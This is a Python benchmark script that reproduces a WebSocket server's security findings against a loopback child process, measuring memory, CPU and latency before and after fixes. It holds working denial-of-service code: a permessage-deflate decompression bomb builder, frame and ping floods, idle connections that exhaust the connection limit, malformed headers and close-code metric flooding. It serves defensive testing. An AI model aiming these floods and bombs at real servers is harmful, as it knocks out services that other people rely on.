"""Reproductions of issue #25's WebSocket-layer findings, as before/after figures.

Run ``python bench/adversarial_wire.py SCENARIO`` with one of ``closing``, ``deflate-read``,
``deflate-rate``, ``heads``, ``pings``, ``silent``, ``close-codes``. Each starts a trionos server in
a child process (this file with ``--serve SCENARIO``; loopback, port 0), attacks it from this
process with raw sockets, and prints what it saw: the server's peak resident memory (VmHWM),
what it answered, or another client's echo round trip while the attack runs. Every attack is
bounded in bytes and seconds. Point ``PYTHONPATH``-free runs at another checkout by running its
copy of this file: the server imports trionos from the checkout the file is in.
"""

from __future__ import annotations

import argparse
import base64
import functools
import os
import re
import statistics
import subprocess
import sys
import time
import zlib
from pathlib import Path
from typing import Any

import trio
from websockets.frames import Frame, Opcode

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import trionos  # noqa: E402

KEY = base64.b64encode(b"0123456789abcdef").decode()


# --- the server (child process) -----------------------------------------------------------------


async def _serve(scenario: str) -> None:
    metrics = trionos.Metrics()

    async def handler(req: trionos.Request) -> None:
        if req.path == "/metrics":
            from trionos._prometheus import render_metrics

            await req.respond(200, render_metrics(metrics))
            return
        if not req.is_upgrade:
            await req.respond_text("ok\n")
            return
        ws = await req.accept(answer_text_ping=True)
        if req.path == "/echo":
            async for message in ws:
                await ws.send(message)
        elif req.path == "/one":  # takes one message, then returns (the close waits for the peer)
            await ws.recv()
        elif req.path == "/drain":  # reads and discards everything
            async for _ in ws:
                pass
        else:  # never reads
            await trio.sleep(30)

    options: dict[str, Any] = {"close_timeout": 5.0}
    if scenario.startswith("deflate") or scenario == "heads":
        options["compression"] = "deflate"
    if scenario == "silent":
        options["max_connections"] = 50
    async with trio.open_nursery() as nursery:
        server = await nursery.start(
            functools.partial(trionos.serve, 0, handler, host="127.0.0.1", metrics=metrics, **options)
        )
        print(server.port, flush=True)


# --- helpers -----------------------------------------------------------------------------------


def frame(opcode: int, payload: bytes) -> bytes:
    """A masked client frame (websockets' own serialiser)."""
    return Frame(Opcode(opcode), payload).serialize(mask=True)


def upgrade(path: str, extra: str = "") -> bytes:
    return (
        f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {KEY}\r\nSec-WebSocket-Version: 13\r\n{extra}\r\n"
    ).encode("latin-1")


async def open_ws(port: int, path: str, extra: str = "") -> trio.SocketStream:
    stream = await trio.open_tcp_stream("127.0.0.1", port)
    await stream.send_all(upgrade(path, extra))
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = await stream.receive_some(4096)
        if not chunk:
            raise ConnectionError(f"no 101: {head!r}")
        head += chunk
    if not head.startswith(b"HTTP/1.1 101"):
        raise ConnectionError(head.split(b"\r\n")[0].decode())
    return stream


def peak_rss(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    match = re.search(r"VmHWM:\s+(\d+) kB", status)
    return int(match.group(1)) * 1024 if match else 0


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def mb(n: float) -> str:
    return f"{n / 1e6:.1f} MB"


async def echo_round_trips(port: int, seconds: float) -> list[float]:
    """Round trips of a 64-byte message on /echo, one after the other, for *seconds*."""
    stream = await open_ws(port, "/echo")
    times: list[float] = []
    message = frame(0x1, b"x" * 64)
    deadline = time.monotonic() + seconds
    async with stream:
        while time.monotonic() < deadline:
            start = time.perf_counter()
            await stream.send_all(message)
            got = 0
            while got < 66:
                chunk = await stream.receive_some(4096)
                if not chunk:
                    return times
                got += len(chunk)
            times.append(time.perf_counter() - start)
            await trio.sleep(0.01)
    return times


def p50_ms(times: list[float]) -> str:
    return f"{statistics.median(times) * 1000:.2f} ms" if times else "none"


async def flood(stream: trio.SocketStream, data: bytes, budget: int, seconds: float) -> int:
    """Send *data* repeatedly, at most *budget* bytes or *seconds*; bytes sent."""
    sent = 0
    with trio.move_on_after(seconds):
        try:
            while sent < budget:
                await stream.send_all(data)
                sent += len(data)
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            pass
    return sent


def bomb(size: int) -> bytes:
    """A compressed frame (RSV1) whose payload inflates to *size* zero bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -12)
    body = compressor.compress(b"\0" * size) + compressor.flush(zlib.Z_SYNC_FLUSH)
    assert body.endswith(b"\x00\x00\xff\xff")
    data = bytearray(frame(0x2, body[:-4]))
    data[0] |= 0x40  # RSV1: compressed
    return bytes(data)


DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n"


# --- the scenarios -----------------------------------------------------------------------------


async def flood_and_measure(
    pid: int, stream: trio.SocketStream, data: bytes, *, budget: int, seconds: float, settle: float
) -> tuple[int, int, int]:
    """Flood *stream* with *data*; bytes sent, and the server's peak RSS before and after."""
    base = peak_rss(pid)
    async with stream:
        sent = await flood(stream, data, budget=budget, seconds=seconds)
        await trio.sleep(settle)  # the server's last reads (a measurement's pause, not a sync)
        return sent, base, peak_rss(pid)


async def closing(port: int, pid: int) -> None:
    """Finding 1: a handler returns after one message; the client floods during the close."""
    stream = await open_ws(port, "/one")
    await stream.send_all(frame(0x2, b"x"))
    data = frame(0x2, b"y" * 65536)
    sent, base, peak = await flood_and_measure(pid, stream, data, budget=400_000_000, seconds=8, settle=0.5)
    print(f"closing: flooded {mb(sent)} after the server's close; server peak RSS {mb(base)} -> {mb(peak)}")


async def deflate_read(port: int, pid: int) -> None:
    """Finding 4a: reads of ~1 KiB frames inflating to ~1 MiB, to a handler that never reads."""
    one = bomb(1024 * 1024 - 64)
    read = one * (65536 // len(one))
    stream = await open_ws(port, "/sleep", DEFLATE)
    sent, base, peak = await flood_and_measure(pid, stream, read, budget=4 * len(read), seconds=5, settle=2)
    print(f"deflate-read: {len(one)}-byte frames, {mb(sent)} sent; server peak RSS {mb(base)} -> {mb(peak)}")


async def deflate_rate(port: int, pid: int) -> None:
    """Finding 4b: two clients send bombs to a reading handler; another client's echo meanwhile."""
    quiet = await echo_round_trips(port, 2)
    one = bomb(256 * 1024)
    cpu = cpu_seconds(pid)
    sent = [0, 0]

    async def abuser(i: int) -> None:
        stream = await open_ws(port, "/drain", DEFLATE)
        async with stream:
            sent[i] = await flood(stream, one * 16, budget=20_000_000, seconds=5)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(abuser, 0)
        nursery.start_soon(abuser, 1)
        await trio.sleep(0.5)
        loaded = await echo_round_trips(port, 4)
    print(
        f"deflate-rate: 2 clients sent {mb(sum(sent))} of {len(one)}-byte frames (256 KiB each inflated) "
        f"in 5 s; server CPU {cpu_seconds(pid) - cpu:.1f} s; "
        f"echo p50 {p50_ms(quiet)} quiet, {p50_ms(loaded)} during"
    )


HEADS = {
    "header line of 9,000 B": "X-Long: " + "a" * 9000 + "\r\n",
    "130 headers": "".join(f"X-H{i}: v\r\n" for i in range(130)),
    "control character in a value": "X-Ctl: a\x01b\r\n",
    "bad Sec-WebSocket-Extensions": "Sec-WebSocket-Extensions: permessage-deflate; ==\r\n",
}


async def heads(port: int, pid: int, log: Path) -> None:
    """Finding 10: heads h11 accepts and the WebSocket core refuses."""
    for name, extra in HEADS.items():
        before = size(log)
        stream = await trio.open_tcp_stream("127.0.0.1", port)
        async with stream:
            await stream.send_all(upgrade("/echo", extra))
            answer = b""
            with trio.move_on_after(3):
                while chunk := await stream.receive_some(4096):
                    answer += chunk
        await trio.sleep(0.3)
        status = answer.split(b"\r\n")[0].decode() or "(no answer)"
        print(f"heads: {name}: {status}; {size(log) - before} B of server log")


async def pings(port: int, pid: int) -> None:
    """Finding 11: two clients flood pings (protocol and text); another client's echo meanwhile."""
    quiet = await echo_round_trips(port, 2)
    outcome: list[str] = []

    async def abuser(text: bool) -> None:
        stream = await open_ws(port, "/sleep" if not text else "/drain")
        one = frame(0x1, b"ping") if text else frame(0x9, b"")
        async with stream:
            sent = await flood(stream, one * 1000, budget=40_000_000, seconds=5)
            outcome.append(f"{'text' if text else 'protocol'} pings: {sent // len(one)} sent")

    cpu = cpu_seconds(pid)
    async with trio.open_nursery() as nursery:
        nursery.start_soon(abuser, True)
        nursery.start_soon(abuser, False)
        await trio.sleep(0.5)
        loaded = await echo_round_trips(port, 4)
    print(
        f"pings: {'; '.join(outcome)}; server CPU {cpu_seconds(pid) - cpu:.1f} s; "
        f"echo p50 {p50_ms(quiet)} quiet, {p50_ms(loaded)} during"
    )


async def silent(port: int, pid: int) -> None:
    """Finding 12: 50 silent connections (max_connections=50), then 20 real handshakes."""
    idle = [await trio.open_tcp_stream("127.0.0.1", port) for _ in range(50)]
    await trio.sleep(0.5)
    answers: dict[str, int] = {}
    for _ in range(20):
        try:
            stream = await open_ws(port, "/echo")
            await stream.aclose()
            answers["101"] = answers.get("101", 0) + 1
        except ConnectionError as exc:
            key = str(exc)[:40]
            answers[key] = answers.get(key, 0) + 1
    print(f"silent: 50 silent connections held, then 20 handshakes: {answers}")
    for stream in idle:
        await stream.aclose()


async def close_codes(port: int, pid: int) -> None:
    """Finding 14: 300 clients close with 3000-3299; series of the closed counter."""
    for code in range(3000, 3300):
        stream = await open_ws(port, "/echo")
        async with stream:
            await stream.send_all(frame(0x8, code.to_bytes(2, "big")))
            with trio.move_on_after(2):
                while await stream.receive_some(4096):
                    pass
    await trio.sleep(0.5)
    stream = await trio.open_tcp_stream("127.0.0.1", port)
    async with stream:
        await stream.send_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
        body = b""
        while chunk := await stream.receive_some(65536):
            body += chunk
    series = [
        line for line in body.decode().splitlines() if line.startswith("trionos_websockets_closed_total{")
    ]
    print(
        f"close-codes: 300 closes with 3000-3299 -> {len(series)} series of trionos_websockets_closed_total"
    )


SCENARIOS = {
    "closing": closing,
    "deflate-read": deflate_read,
    "deflate-rate": deflate_rate,
    "heads": heads,
    "pings": pings,
    "silent": silent,
    "close-codes": close_codes,
}


def size(path: Path) -> int:
    return path.stat().st_size


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("scenario", choices=sorted(SCENARIOS))
    parser.add_argument("--serve", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.serve:
        import logging

        logging.basicConfig(level=logging.INFO)
        trio.run(_serve, args.scenario)
        return
    log = Path(f"/tmp/adversarial_wire_{os.getpid()}.log")
    with log.open("wb") as err:
        child = subprocess.Popen(
            [sys.executable, __file__, "--serve", args.scenario], stdout=subprocess.PIPE, stderr=err
        )
    try:
        assert child.stdout is not None
        port = int(child.stdout.readline())
        if args.scenario == "heads":
            trio.run(heads, port, child.pid, log)
        else:
            trio.run(SCENARIOS[args.scenario], port, child.pid)  # type: ignore[arg-type]
    finally:
        child.terminate()
        child.wait(10)
        log.unlink()


if __name__ == "__main__":
    main()
